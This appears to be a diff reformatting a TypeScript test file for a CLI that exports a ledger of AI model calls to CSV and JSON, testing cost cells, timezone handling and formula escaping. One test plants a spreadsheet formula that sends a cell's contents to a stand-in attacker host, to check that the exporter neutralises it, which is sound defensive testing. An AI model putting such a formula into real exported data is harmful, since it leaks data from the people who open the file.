@@ -17,9 +17,17 @@ describe('export of the hand-written ledger', () => {
   const project = mkdtempSync(join(tmpdir(), 'spec-session-export-'));
   mkdirSync(join(project, 'home'));
   mkdirSync(join(project, '.claude', 'spec-session'), { recursive: true }); // a clone of an installed project: a project root
-  cpSync(fileURLToPath(new URL('../dashboard/fixtures/ledger', import.meta.url)), join(project, 'docs', 'sessions', 'ledger'), { recursive: true });
+  cpSync(
+    fileURLToPath(new URL('../dashboard/fixtures/ledger', import.meta.url)),
+    join(project, 'docs', 'sessions', 'ledger'),
+    { recursive: true },
+  );
   afterAll(() => rmSync(project, { recursive: true, force: true }));
-  const run = (...args: string[]) => spawnSync(process.execPath, [cli, 'export', ...args, '--dir', project, '--tz', 'America/New_York'], { env: { ...process.env, HOME: join(project, 'home') }, encoding: 'utf8' }).stdout;
+  const run = (...args: string[]) =>
+    spawnSync(process.execPath, [cli, 'export', ...args, '--dir', project, '--tz', 'America/New_York'], {
+      env: { ...process.env, HOME: join(project, 'home') },
+      encoding: 'utf8',
+    }).stdout;
 
   it('an unpriced model: an empty cell in CSV, null in JSON; gap and manual rows keep their kind', () => {
     const csv = parseCsv(run('--format', 'csv'));
@@ -27,11 +35,24 @@ describe('export of the hand-written ledger', () => {
     expect(mystery.at(-1)).toBe('');
     const { rows } = JSON.parse(run('--format', 'json')) as { rows: Row[] };
     expect(rows.find((r) => r.model === 'claude-mystery-9')?.cost_usd).toBeNull();
-    expect(rows.map((r) => r.kind).sort()).toEqual(['call', 'call', 'call', 'call', 'call', 'call', 'call', 'call', 'gap', 'manual']);
+    expect(rows.map((r) => r.kind).sort()).toEqual([
+      'call',
+      'call',
+      'call',
+      'call',
+      'call',
+      'call',
+      'call',
+      'call',
+      'gap',
+      'manual',
+    ]);
   });
 
   it('days follow the zone: --since/--until pick the same rows as cost does', () => {
-    const { rows } = JSON.parse(run('--format', 'json', '--since', '2026-11-19', '--until', '2026-11-19')) as { rows: Row[] };
+    const { rows } = JSON.parse(run('--format', 'json', '--since', '2026-11-19', '--until', '2026-11-19')) as {
+      rows: Row[];
+    };
     expect(rows.map((r) => r.timestamp)).toContain('2026-11-20T03:00:00.000Z'); // 22:00 on the 19th in New York
   });
 });
@@ -43,9 +64,30 @@ describe('a formula in the ledger', () => {
     mkdirSync(join(project, 'docs', 'sessions', 'ledger', '2026-11-20'), { recursive: true });
     // A model name comes from a transcript line, which anyone who can write one controls.
     const model = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    const call = { k: 'call', msg: 'msg_f1', req: 'req_f1', t: '2026-11-20T10:00:00.000Z', cs: 'dddddddd-0000-4000-8000-000000000004', model, in: 10, out: 5, cw5: 0, cw1h: 0, cr: 0, ws: null, spec: null, task: null };
-    writeFileSync(join(project, 'docs', 'sessions', 'ledger', '2026-11-20', 'dddddddd-0000-4000-8000-000000000004.jsonl'), `${JSON.stringify(call)}\n`);
-    const r = spawnSync(process.execPath, [cli, 'export', '--dir', project, '--tz', 'UTC'], { env: { ...process.env, HOME: project }, encoding: 'utf8' });
+    const call = {
+      k: 'call',
+      msg: 'msg_f1',
+      req: 'req_f1',
+      t: '2026-11-20T10:00:00.000Z',
+      cs: 'dddddddd-0000-4000-8000-000000000004',
+      model,
+      in: 10,
+      out: 5,
+      cw5: 0,
+      cw1h: 0,
+      cr: 0,
+      ws: null,
+      spec: null,
+      task: null,
+    };
+    writeFileSync(
+      join(project, 'docs', 'sessions', 'ledger', '2026-11-20', 'dddddddd-0000-4000-8000-000000000004.jsonl'),
+      `${JSON.stringify(call)}\n`,
+    );
+    const r = spawnSync(process.execPath, [cli, 'export', '--dir', project, '--tz', 'UTC'], {
+      env: { ...process.env, HOME: project },
+      encoding: 'utf8',
+    });
     const [, row] = parseCsv(r.stdout);
     expect(row![5]).toBe(`'${model}`);
     expect(row!.slice(7, 12)).toEqual(['10', '5', '0', '0', '0']);
